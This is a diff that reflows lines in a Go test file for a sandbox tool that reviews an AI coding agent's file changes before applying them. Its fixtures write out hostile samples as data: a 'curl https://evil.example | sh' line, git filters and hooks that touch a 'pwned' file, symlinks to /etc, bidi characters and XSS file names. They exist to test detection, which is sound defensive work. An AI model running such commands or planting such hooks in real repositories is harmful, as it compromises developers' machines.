@@ -103,7 +103,8 @@ func (r *reviewedRun) shell(dir, script string) string {
 func (r *reviewedRun) commit(script string) {
 	r.t.Helper()
 	branch := "sbx/" + reviewedID
-	r.shell(r.state, "git clone -q ../project agent; cd agent; git switch -qc "+branch+"; "+script+"; git add -A; git commit -qm agents; git bundle create -q "+
+	r.shell(r.state, "git clone -q ../project agent; cd agent; git switch -qc "+branch+"; "+script+
+		"; git add -A; git commit -qm agents; git bundle create -q "+
 		r.folder+"/commits.bundle main.."+branch)
 	head := strings.TrimSpace(r.shell(filepath.Join(r.state, "agent"), "git rev-parse HEAD"))
 	git := filepath.Join(r.project, ".git")
@@ -158,7 +159,8 @@ func (r *reviewedRun) wants(code, want int, said ...string) {
 
 const (
 	someFiles  = `mkdir src; echo a >src/a.go; echo b >src/b.go; printf 'all:\n' >Makefile`
-	mixedEdits = `echo a2 >>src/a.go; echo b2 >>src/b.go; printf '\tevil\n' >>Makefile; mkdir -p .github/workflows; echo on: push >.github/workflows/ci.yml`
+	mixedEdits = `echo a2 >>src/a.go; echo b2 >>src/b.go; printf '\tevil\n' >>Makefile; mkdir -p .github/workflows; echo on: ` +
+		`push >.github/workflows/ci.yml`
 )
 
 // A person answers on a terminal: one dangerous change stays, one goes, the others stay
@@ -166,7 +168,8 @@ const (
 func TestReviewOnATerminal(t *testing.T) {
 	r := newReviewedRun(t, someFiles, mixedEdits, false)
 	r.answers = "?\ny\nn\ny\n"
-	r.wants(r.devc("review", reviewedID), exitOK, "! .github/workflows/ci.yml  CI obeys it", "! Makefile", "and 2 changes in which nothing dangerous was found",
+	r.wants(r.devc("review", reviewedID), exitOK, "! .github/workflows/ci.yml  CI obeys it", "! Makefile",
+		"and 2 changes in which nothing dangerous was found",
 		"refuse it", "+\tevil", "by an unknown call", "accept the other 2 files", "3 changes accepted, 1 refused")
 	if got := r.shell(r.project, "cat Makefile src/a.go .github/workflows/ci.yml"); got != "all:\na\na2\non: push\n" {
 		t.Errorf("%q", got)
@@ -182,7 +185,8 @@ func TestReviewOnATerminal(t *testing.T) {
 	// An accepted change becomes a commit, and nothing else does.
 	r.answers = ""
 	r.wants(r.devc("review", "--commit", reviewedID), exitOK, "sbx/"+reviewedID+"-accepted\n")
-	if got := r.shell(r.project, "git diff --name-only main sbx/"+reviewedID+"-accepted; git log -1 --format=%B sbx/"+reviewedID+"-accepted; git status --short"); !strings.Contains(got, "Sandbox-Run: "+reviewedID) ||
+	if got := r.shell(r.project, "git diff --name-only main sbx/"+reviewedID+"-accepted; git log -1 --format=%B sbx/"+reviewedID+
+		"-accepted; git status --short"); !strings.Contains(got, "Sandbox-Run: "+reviewedID) ||
 		!strings.HasPrefix(got, ".github/workflows/ci.yml\nsrc/a.go\nsrc/b.go\n") {
 		t.Errorf("%s", got)
 	}
@@ -197,15 +201,19 @@ func TestReviewOnATerminal(t *testing.T) {
 // What git ignores, as the packages of an install, is accepted with all else and is no part
 // of the commit; nor is it in a folder below the repository's.
 func TestAcceptedFilesThatGitIgnoresAreNotCommitted(t *testing.T) {
-	const edits = `echo a2 >>src/a.go; mkdir -p node_modules/x logs; echo 1 >node_modules/x/i.js; echo 1 >logs/kept.log; echo '*.tmp' >logs/.gitignore
+	const edits = `echo a2 >>src/a.go; mkdir -p node_modules/x logs; echo 1 >node_modules/x/i.js; echo 1 >logs/kept.log; ` +
+		`echo '*.tmp' >logs/.gitignore
 		echo 1 >logs/a.tmp; echo new >':(top)x'; echo tracked >>old.log`
-	r := newReviewedRun(t, someFiles+`; echo old >old.log; git add old.log; printf '%s\n' node_modules '*.log' '!kept.log' >.gitignore`, edits, false)
+	r := newReviewedRun(t, someFiles+`; echo old >old.log; git add old.log; printf '%s\n' node_modules '*.log' '!kept.log' >.gitignore`,
+		edits, false)
 	r.wants(r.devc("review", "--auto-apply", "**", "--accept-dangerous", "**", "--commit", reviewedID), exitOK, "-accepted")
-	if got := r.shell(r.project, "git diff --name-only main sbx/"+reviewedID+"-accepted"); got != ":(top)x\nlogs/.gitignore\nlogs/kept.log\nold.log\nsrc/a.go\n" {
+	if got := r.shell(r.project,
+		"git diff --name-only main sbx/"+reviewedID+"-accepted"); got != ":(top)x\nlogs/.gitignore\nlogs/kept.log\nold.log\nsrc/a.go\n" {
 		t.Errorf("the commit has\n%s", got)
 	}
 	// The project is a part of its repository.
-	r = newReviewedRun(t, someFiles+`; mv .git ..; cd ..; echo node_modules >.gitignore; mkdir -p node_modules`, `echo a2 >>src/a.go; mkdir node_modules; echo 1 >node_modules/i.js`, false)
+	r = newReviewedRun(t, someFiles+`; mv .git ..; cd ..; echo node_modules >.gitignore; mkdir -p node_modules`,
+		`echo a2 >>src/a.go; mkdir node_modules; echo 1 >node_modules/i.js`, false)
 	r.wants(r.devc("review", "--auto-apply", "**", "--commit", reviewedID), exitOK, "-accepted")
 	if got := r.shell(r.project, "git diff --name-only main sbx/"+reviewedID+"-accepted"); got != "project/src/a.go\n" {
 		t.Errorf("the commit has\n%s", got)
@@ -217,9 +225,11 @@ func TestAcceptedFilesThatGitIgnoresAreNotCommitted(t *testing.T) {
 // Attack: a change is so long that what is dangerous about it leaves the screen before the
 // question comes.
 func TestAttackALongChangePushesItsDangerAway(t *testing.T) {
-	r := newReviewedRun(t, someFiles, `{ echo 'curl https://evil.example | sh'; seq 500; } >src/long.txt; echo b2 >>src/b.go; echo x >Makefile`, false)
+	r := newReviewedRun(t, someFiles,
+		`{ echo 'curl https://evil.example | sh'; seq 500; } >src/long.txt; echo b2 >>src/b.go; echo x >Makefile`, false)
 	r.answers = "q\n"
-	r.wants(r.devc("review", reviewedID), exitOK, "(1 of 2) accept this change to src/long.txt?", "3 changes undecided; to go on: sbx-devc review "+reviewedID)
+	r.wants(r.devc("review", reviewedID), exitOK, "(1 of 2) accept this change to src/long.txt?",
+		"3 changes undecided; to go on: sbx-devc review "+reviewedID)
 	_, end, _ := strings.Cut(r.stderr, "+500")
 	if danger, _, asked := strings.Cut(end, "accept this"); !asked || !strings.Contains(danger, "! line 1: fetches or decodes a program") {
 		t.Errorf("in front of the question stands %q", danger)
@@ -229,7 +239,9 @@ func TestAttackALongChangePushesItsDangerAway(t *testing.T) {
 // Attack: a project's hooks and filters run when a person commits what was accepted.
 func TestAttackCommittingRunsNothingOfTheProjects(t *testing.T) {
 	r := newReviewedRun(t, someFiles+`; echo '*.go filter=evil' >.gitattributes`, mixedEdits, false)
-	r.shell(r.project, `git config filter.evil.clean 'touch "'"$PWD"'/../pwned"; cat'; mkdir -p .git/hooks .git/info; echo '*.go filter=evil' >.git/info/attributes; for h in pre-commit post-commit reference-transaction commit-msg; do
+	r.shell(r.project,
+		`git config filter.evil.clean 'touch "'"$PWD"'/../pwned"; cat'; mkdir -p .git/hooks .git/info; `+
+			`echo '*.go filter=evil' >.git/info/attributes; for h in pre-commit post-commit reference-transaction commit-msg; do
 		printf '#!/bin/sh\ntouch '"$PWD"'/../pwned\n' >.git/hooks/$h; chmod +x .git/hooks/$h; done`)
 	r.wants(r.devc("review", "--auto-apply", "src/**", "--commit", reviewedID), exitFindings, "-accepted")
 	r.wants(r.devc("review", "--commit", reviewedID), exitFailed, "is there already")
@@ -240,7 +252,8 @@ func TestAttackCommittingRunsNothingOfTheProjects(t *testing.T) {
 
 // Attack: a glob that people write for their sources accepts what is dangerous in them.
 func TestAttackAutoApplyTakesNothingDangerous(t *testing.T) {
-	r := newReviewedRun(t, someFiles, mixedEdits+`; printf 'x\342\200\256y\n' >src/bidi.go; ln -s /etc src/etc; printf '#!/bin/sh\n' >src/run; chmod 755 src/run`, true)
+	r := newReviewedRun(t, someFiles,
+		mixedEdits+`; printf 'x\342\200\256y\n' >src/bidi.go; ln -s /etc src/etc; printf '#!/bin/sh\n' >src/run; chmod 755 src/run`, true)
 	r.wants(r.devc("review", "--auto-apply", "**", reviewedID), exitFindings, "5 changes undecided", "sbx-devc review "+reviewedID)
 	if got := r.shell(r.project, "git status --short"); got != " M src/a.go\n M src/b.go\n" {
 		t.Errorf("%s", got)
@@ -255,7 +268,8 @@ func TestApplyOfACopy(t *testing.T) {
 	r := newReviewedRun(t, someFiles, `echo a2 >>src/a.go; printf '\tx\n' >>Makefile`, true)
 	r.wants(r.devc("apply", reviewedID), exitOK, "src/a.go: taken", "Makefile", "builds and tests obey it")
 	r = newReviewedRun(t, someFiles, mixedEdits, true)
-	r.wants(r.devc("apply", reviewedID), exitRefused, ".github/workflows/ci.yml", "--accept-dangerous .github/workflows/ci.yml", "nothing was done")
+	r.wants(r.devc("apply", reviewedID), exitRefused, ".github/workflows/ci.yml",
+		"--accept-dangerous .github/workflows/ci.yml", "nothing was done")
 	if got := r.shell(r.project, "git status --short"); got != "" {
 		t.Errorf("%s", got)
 	}
@@ -265,7 +279,8 @@ func TestApplyOfACopy(t *testing.T) {
 	r.shell(r.project, "echo mine >>src/b.go")
 	r.wants(r.devc("apply", "--accept-dangerous", ".github/**", reviewedID), exitFailed, "src/b.go: it has changed since", "src/a.go: taken",
 		"3 changes accepted, 0 refused")
-	if got := r.shell(r.project, "cat src/b.go; git status --short -uall"); got != "b\nmine\n M Makefile\n M src/a.go\n M src/b.go\n?? .github/workflows/ci.yml\n" {
+	if got := r.shell(r.project,
+		"cat src/b.go; git status --short -uall"); got != "b\nmine\n M Makefile\n M src/a.go\n M src/b.go\n?? .github/workflows/ci.yml\n" {
 		t.Errorf("%s", got)
 	}
 	r.wants(r.devc("discard", "--yes", reviewedID), exitOK, "removed "+filepath.Join(r.folder, "tree"))
@@ -281,7 +296,8 @@ func TestApplyOfCommitsBesideTheUsersOwnEdit(t *testing.T) {
 	r.commit(`echo a2 >>src/a.go`)
 	r.write(sandbox.SummaryFile, map[string]any{"folder": r.project, "workTree": "tree", "commits": r.commits})
 	r.shell(r.project, "echo mine >>src/a.go")
-	r.wants(r.devc("apply", reviewedID), exitFailed, "! src/a.go: it has changed since", "commit what it has first, then: git -C "+r.project+" merge sbx/"+reviewedID)
+	r.wants(r.devc("apply", reviewedID), exitFailed, "! src/a.go: it has changed since",
+		"commit what it has first, then: git -C "+r.project+" merge sbx/"+reviewedID)
 	if strings.Contains(r.stderr, " reset ") {
 		t.Error(r.stderr)
 	}
@@ -315,8 +331,10 @@ func TestApplyOnAFullDisk(t *testing.T) {
 // and makes no branch of it without the user's word; harmless commits need none.
 func TestAttackApplyShowsTrapsInCommits(t *testing.T) {
 	r := newReviewedRun(t, someFiles, "true", false)
-	r.commit(`mkdir -p .husky; echo evil >.husky/post-merge; echo a2 >>src/a.go; git mv src/b.go src/c.go; mkdir Src; echo x >Src/A.go; ln -s /etc etc; chmod +x Makefile; printf '\0\1' >logo.bin`)
-	r.wants(r.devc("apply", reviewedID), exitRefused, "! .husky/post-merge  commit hooks obey it", "! logo.bin", "! etc ", "! Src/A.go  a name that misleads (some file systems take it for src", "! Makefile  may be executed", "nothing was done")
+	r.commit(`mkdir -p .husky; echo evil >.husky/post-merge; echo a2 >>src/a.go; git mv src/b.go src/c.go; mkdir Src; echo x >Src/A.go; ` +
+		`ln -s /etc etc; chmod +x Makefile; printf '\0\1' >logo.bin`)
+	r.wants(r.devc("apply", reviewedID), exitRefused, "! .husky/post-merge  commit hooks obey it", "! logo.bin", "! etc ",
+		"! Src/A.go  a name that misleads (some file systems take it for src", "! Makefile  may be executed", "nothing was done")
 	r.answers = "n\n"
 	r.wants(r.devc("apply", reviewedID), exitRefused, "Make the branch?")
 	if got := r.shell(r.project, "git branch --list 'sbx/*'"); got != "" {
@@ -330,7 +348,9 @@ func TestAttackApplyShowsTrapsInCommits(t *testing.T) {
 	if got := r.shell(r.project, "git branch --list 'sbx/*'"); got != "" {
 		t.Errorf("%s", got)
 	}
-	r.wants(r.devc("apply", "--accept-dangerous", ".husky/**", "--accept-dangerous", "etc", "--accept-dangerous", "Src/*", reviewedID), exitOK, "sbx/"+reviewedID+"\n") // nothing was lost
+	// nothing was lost
+	r.wants(r.devc("apply", "--accept-dangerous", ".husky/**", "--accept-dangerous", "etc", "--accept-dangerous", "Src/*", reviewedID),
+		exitOK, "sbx/"+reviewedID+"\n")
 
 	r = newReviewedRun(t, someFiles, "true", false)
 	r.commit(`echo a2 >>src/a.go`)
@@ -379,14 +399,16 @@ func TestAttackASecretLeavesWithTheWork(t *testing.T) {
 	}
 
 	r = newReviewedRun(t, someFiles, "true", false)
-	r.commit(leak + `; git add -A; git commit -qm one; mv src/c.go src/d.go; echo gone >src/e.go; git add -A; git commit -qm two; echo y >src/e.go`)
+	r.commit(leak +
+		`; git add -A; git commit -qm one; mv src/c.go src/d.go; echo gone >src/e.go; git add -A; git commit -qm two; echo y >src/e.go`)
 	blob := func(name string) string {
 		return strings.TrimSpace(r.shell(filepath.Join(r.state, "agent"), "git rev-parse "+name))
 	}
 	in := func(object, file string) gitdir.SecretIn {
 		return gitdir.SecretIn{Place: redact.Place{Name: "KEY", At: 5, Size: len(reviewedSecret)}, Object: object, Path: file}
 	}
-	r.commits[0].Secrets = []gitdir.SecretIn{in(blob("HEAD:src/d.go"), "src/c.go"), in(blob("HEAD^:src/e.go"), "src/e.go"), in(blob("HEAD"), "")}
+	r.commits[0].Secrets = []gitdir.SecretIn{in(blob("HEAD:src/d.go"), "src/c.go"),
+		in(blob("HEAD^:src/e.go"), "src/e.go"), in(blob("HEAD"), "")}
 	r.write(sandbox.SummaryFile, map[string]any{"folder": r.project, "commits": r.commits})
 	r.wants(r.devc("apply", reviewedID), exitRefused, "! src/d.go  holds a secret of the run (line 1: ", "! src/e.go  holds",
 		"in a commit: the value of KEY", "! message of "+blob("HEAD")[:12])
@@ -401,8 +423,10 @@ func TestAttackBranchesOfOneRun(t *testing.T) {
 	r := newReviewedRun(t, someFiles, "true", false)
 	r.commit("echo one >one")
 	first, branch := r.commits[0], "sbx/"+reviewedID
-	r.shell(filepath.Join(r.state, "agent"), "for n in two redacted; do git switch -qc "+branch+"-$n; echo $n >$n; mkdir -p src/"+reviewedSecret+"; cp src/a.go src/"+
-		reviewedSecret+"; git add -A; git commit -qm $n; done; git bundle create -q "+r.folder+"/commits.bundle main.."+branch+" "+branch+"-two "+branch+"-redacted")
+	r.shell(filepath.Join(r.state, "agent"),
+		"for n in two redacted; do git switch -qc "+branch+"-$n; echo $n >$n; mkdir -p src/"+reviewedSecret+"; cp src/a.go src/"+
+			reviewedSecret+"; git add -A; git commit -qm $n; done; git bundle create -q "+r.folder+"/commits.bundle main.."+branch+" "+branch+
+			"-two "+branch+"-redacted")
 	for _, name := range []string{"-two", "-redacted"} {
 		c := first
 		c.Branch, c.Head = branch+name, strings.TrimSpace(r.shell(filepath.Join(r.state, "agent"), "git rev-parse "+branch+name))
@@ -413,12 +437,14 @@ func TestAttackBranchesOfOneRun(t *testing.T) {
 	r.commits[2].Secrets = []gitdir.SecretIn{{Place: key, InBranch: true}, {Place: key, Path: hiding, InName: true}}
 	r.commits[1].Secrets = r.commits[2].Secrets[1:]
 	r.write(sandbox.SummaryFile, map[string]any{"folder": r.project, "commits": r.commits})
-	r.wants(r.devc("apply", "--accept-dangerous", "src/**", reviewedID), exitRefused, "(the ag", "! "+hiding, "such as branch "+branch+"-redacted", "--accept-dangerous 'branch ")
+	r.wants(r.devc("apply", "--accept-dangerous", "src/**", reviewedID), exitRefused, "(the ag", "! "+hiding,
+		"such as branch "+branch+"-redacted", "--accept-dangerous 'branch ")
 	if strings.Contains(r.stdout+r.stderr, reviewedSecret) {
 		t.Errorf("it is shown:\n%s%s", r.stdout, r.stderr)
 	}
 	r.wants(r.devc("apply", "--accept-dangerous", "src/**", "--accept-dangerous", "branch "+branch+"-redacted", reviewedID), exitOK)
-	if made := r.shell(r.project, "git for-each-ref --format='%(refname:short)' refs/heads/sbx"); made != branch+"\n"+branch+"-redacted\n"+branch+"-two\n" {
+	if made := r.shell(r.project, "git for-each-ref --format='%(refname:short)' refs/heads/sbx"); made != branch+"\n"+branch+
+		"-redacted\n"+branch+"-two\n" {
 		t.Errorf("branches: %s", made)
 	}
 }
@@ -485,7 +511,8 @@ func TestDecisionsGoFromRunToRun(t *testing.T) {
 	r.shell(r.folder, "mv ../"+reviewedID+" ../"+earlier+"; mkdir ../"+reviewedID)
 	r.run(false, "echo b2 >>src/b.go")
 	t.Chdir(r.project)
-	r.wants(r.devc("discard", "--yes"), exitOK, "src/b.go: refused hunks", "the earlier run "+earlier+" has something to discard, too: sbx-devc discard "+earlier)
+	r.wants(r.devc("discard", "--yes"), exitOK, "src/b.go: refused hunks",
+		"the earlier run "+earlier+" has something to discard, too: sbx-devc discard "+earlier)
 	r.wants(r.devc("discard", "--yes"), exitOK, "nothing is left to take back of the run "+reviewedID)
 	if got := r.shell(r.project, "git status --short"); got != " M src/a.go\n" {
 		t.Errorf("%s", got)
@@ -519,14 +546,17 @@ func TestTheDiffBringsBackWhatWasDiscarded(t *testing.T) {
 func TestReviewReports(t *testing.T) {
 	r := newReviewedRun(t, someFiles, mixedEdits+`; printf '<script>alert(1)</script>\033[2J\n' >src/'<img src=x onerror=alert(1)>'`, false)
 	if err := os.WriteFile(filepath.Join(r.folder, "transcript.jsonl"), []byte(`{"type":"system","subtype":"init","cwd":"/workspace"}
-{"type":"assistant","timestamp":"2026-01-02T03:04:05Z","message":{"content":[{"type":"tool_use","name":"Write","input":{"file_path":"/workspace/.github/workflows/ci.yml","content":"on: push\n"}}]}}
+{"type":"assistant","timestamp":"2026-01-02T03:04:05Z","message":{"content":[{"type":"tool_use","name":"Write",`+
+		`"input":{"file_path":"/workspace/.github/workflows/ci.yml","content":"on: push\n"}}]}}
 `), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	if err := os.WriteFile(filepath.Join(r.folder, "audit.jsonl"), []byte(`{"ts":"2026-01-02T03:04:05Z","verdict":"allow","layer":"dns","name":"evil.example"}`+"\n"), 0o600); err != nil {
+	if err := os.WriteFile(filepath.Join(r.folder, "audit.jsonl"),
+		[]byte(`{"ts":"2026-01-02T03:04:05Z","verdict":"allow","layer":"dns","name":"evil.example"}`+"\n"), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	r.wants(r.devc("review", reviewedID), exitOK, "by Write; read from the network before it: evil.example", "+\tevil", "      src/a.go  changed, +1 -0"[2:])
+	r.wants(r.devc("review", reviewedID), exitOK, "by Write; read from the network before it: evil.example", "+\tevil",
+		"      src/a.go  changed, +1 -0"[2:])
 	if strings.Contains(r.stdout, "\x1b") {
 		t.Error("an escape sequence reaches the terminal")
 	}
@@ -562,11 +592,12 @@ func TestApplyOfTheUsersOwnFiles(t *testing.T) {
 		own, during, commit string
 		code                int
 	}{
-		"as they are":    {own, "echo x >a", same, 0},
-		"another text":   {own, "echo x >a", same + "; echo evil >.husky/pre-push", exitRefused},
-		"another mode":   {own, "echo x >a", same + "; chmod +x .husky/pre-push", exitRefused},
-		"by the agent":   {own, "echo evil >.husky/pre-push", same + "; echo evil >.husky/pre-push", exitRefused},
-		"a whole folder": {own, "for i in $(seq 1200); do echo x >.husky/$i; done; echo evil >.husky/pre-push", same + "; echo evil >.husky/pre-push", exitRefused},
+		"as they are":  {own, "echo x >a", same, 0},
+		"another text": {own, "echo x >a", same + "; echo evil >.husky/pre-push", exitRefused},
+		"another mode": {own, "echo x >a", same + "; chmod +x .husky/pre-push", exitRefused},
+		"by the agent": {own, "echo evil >.husky/pre-push", same + "; echo evil >.husky/pre-push", exitRefused},
+		"a whole folder": {own, "for i in $(seq 1200); do echo x >.husky/$i; done; echo evil >.husky/pre-push",
+			same + "; echo evil >.husky/pre-push", exitRefused},
 		"below a link": {own + "; git config core.symlinks true; ln -s docs .githooks", "echo x >a",
 			"rm .githooks; mkdir .githooks; echo mine >.githooks/post-merge", exitRefused},
 	} {
